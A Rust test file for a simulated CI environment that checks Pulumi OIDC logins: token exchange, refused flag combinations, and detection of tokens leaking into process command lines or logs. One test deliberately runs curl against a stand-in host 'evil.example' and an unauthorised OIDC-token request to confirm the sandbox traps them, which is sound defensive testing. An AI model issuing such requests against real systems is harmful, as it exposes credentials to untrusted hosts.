//! The world itself: what a job would see of it through real `curl`, and what it refuses.
//!
//! What must hold: the stand-ins fail where the real ones would; a rehearsal whose world grants too much proves nothing.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, reason = "a panic here is a failed test with a place")]

use std::io::Read as _;
use std::process::{Command, Stdio};

use serde_json::json;
use stackgate_rehearsal::{Answers, Grant, Identity, Job, World, leaks};

/// A job with the stand-in unpacked, and a right to ask for a token.
fn job(world: &World) -> Job {
    let mut job = Job::new(world, "job");
    let unpack = "curl --fail --silent --location --proto =https --tlsv1.2 --output cli.tar.gz \
                  https://github.com/pulumi/pulumi/releases/download/v1/pulumi-v1-linux-x64.tar.gz && tar -xzf cli.tar.gz";
    let unpacked = job.run(&["sh", "-ec", unpack], &job.temp.clone(), &[]);
    assert!(unpacked.success, "{}", unpacked.text);
    job.set("PULUMI_HOME", &job.temp.join("home").display().to_string());
    let bearer = world.bearer();
    let identity = Identity::new("https://issuer.example", json!({"sub": "job"}));
    let token = world.mint(&identity, "urn:pulumi:org:acme");
    world.admit(Grant { bearer, connection: None }, identity);
    std::fs::write(job.temp.join("token"), token).unwrap();
    job
}

fn pulumi(job: &mut Job, line: &str) -> (bool, String) {
    let output = job.run(&["sh", "-ec", &format!("exec pulumi/pulumi {line}")], &job.temp.clone(), &[]);
    (output.success, output.text)
}

const LOGIN: &str = "login https://api.pulumi.com --oidc-token file://token --non-interactive";

#[test]
fn a_login_gives_a_token_that_is_good_for_the_organization_and_leaves_no_trace_in_the_process_list() {
    let world = World::new(Answers::default());
    let mut job = job(&world);
    std::fs::write(job.temp.join("Pulumi.yaml"), "name: app\n").unwrap();
    let watch = world.watch();
    let (ok, text) = pulumi(&mut job, &format!("{LOGIN} --oidc-org acme --oidc-team app-dev --oidc-expiration 15m"));
    assert!(ok, "{text}");
    let exchanges = world.exchanges();
    let [exchange] = &exchanges[..] else { panic!("{exchanges:?}") };
    assert_eq!(
        (exchange.organization.as_str(), exchange.team.as_str(), exchange.seconds, exchange.cloud_url.as_str()),
        ("acme", "app-dev", 900, "https://api.pulumi.com")
    );
    assert!(pulumi(&mut job, "up --yes --stack acme/app/dev").0);
    assert_eq!(world.trapped(), Vec::<String>::new());
    assert!(!pulumi(&mut job, "up --yes --stack other/app/dev").0, "a stack of another organization");
    assert_eq!(watch.end(), Vec::<String>::new());
    let calls = world.calls();
    assert!(calls.iter().all(|call| call.exposed.is_empty()));
    let ups: Vec<_> = calls.iter().filter(|call| call.command() == "up").collect();
    assert_eq!((ups.len(), ups[0].mode.as_deref(), ups[0].flag("--stack")), (2, Some("600"), Some("acme/app/dev")));
    let (_, leaks) = job.end(&world);
    assert!(leaks.len() == 2, "the token's file and the credentials are still there: {leaks:?}");
}

#[test]
fn a_login_is_refused_where_the_cli_or_the_cloud_would_refuse_it() {
    for (line, why) in [
        (format!("{LOGIN} --oidc-org acme"), "access_token:organization"),
        (format!("{LOGIN} --oidc-org acme --oidc-user alice"), "access_token:personal"),
        (format!("{LOGIN} --oidc-org acme --oidc-team a --oidc-user b"), "only one of"),
        (format!("{LOGIN} --oidc-team app-dev"), "must specify organization"),
        (format!("{LOGIN} --oidc-org other --oidc-team app-dev"), "the token is for"),
        (format!("{LOGIN} --oidc-org acme --oidc-team app-dev --oidc-teams x"), "unknown flag"),
        (format!("{LOGIN} --oidc-org acme --oidc-team app-dev --oidc-expiration 900"), "missing unit"),
        ("login https://api.pulumi.com --oidc-token '' --oidc-org acme --oidc-team a".into(), "must be set for login"),
        ("login https://api.pulumi.com --oidc-token file:///dev/null --oidc-org acme".into(), "is empty"),
    ] {
        let world = World::new(Answers::default());
        let mut job = job(&world);
        let (ok, text) = pulumi(&mut job, &line);
        assert!(!ok && text.contains(why), "{line}: {text}");
        assert_eq!(world.exchanges(), [], "{line}");
    }
}

#[test]
fn a_token_in_a_command_line_or_a_log_is_seen() {
    let world = World::new(Answers::default());
    let mut job = job(&world);
    let line = "login https://api.pulumi.com --oidc-token \"$(cat token)\" --oidc-org acme --oidc-team app-dev";
    assert!(pulumi(&mut job, line).0);
    assert_eq!(world.calls()[0].exposed.len(), 1);
    let mut child = Command::new("sh")
        .args(["-c", "echo ready; read -r line; : \"$0\"", &world.secrets()[0]])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    // A process that was only just started may have no command line yet.
    child.stdout.as_mut().unwrap().read_exact(&mut [0; 6]).unwrap();
    assert_eq!(leaks::in_processes(&world.secrets()), ["a command line of sh holds a token"]);
    drop(child.stdin.take());
    child.wait().unwrap();
    job.run(&["cat", "token"], &job.temp.clone(), &[]);
    assert!(job.end(&world).1.contains(&"line 2 of the output holds a token".to_owned()));
}

#[test]
fn whatever_nobody_has_reason_to_ask_for_is_a_trap() {
    let world = World::new(Answers::default());
    let mut job = job(&world);
    let ask = "curl --silent https://evil.example/x; curl --silent --data '' https://dev.azure.com/acme/oidctoken";
    job.run(&["sh", "-c", ask], &job.temp.clone(), &[]);
    assert_eq!(world.trapped(), ["GET https://evil.example/x", "somebody asked for an OIDC token who may not"]);
}
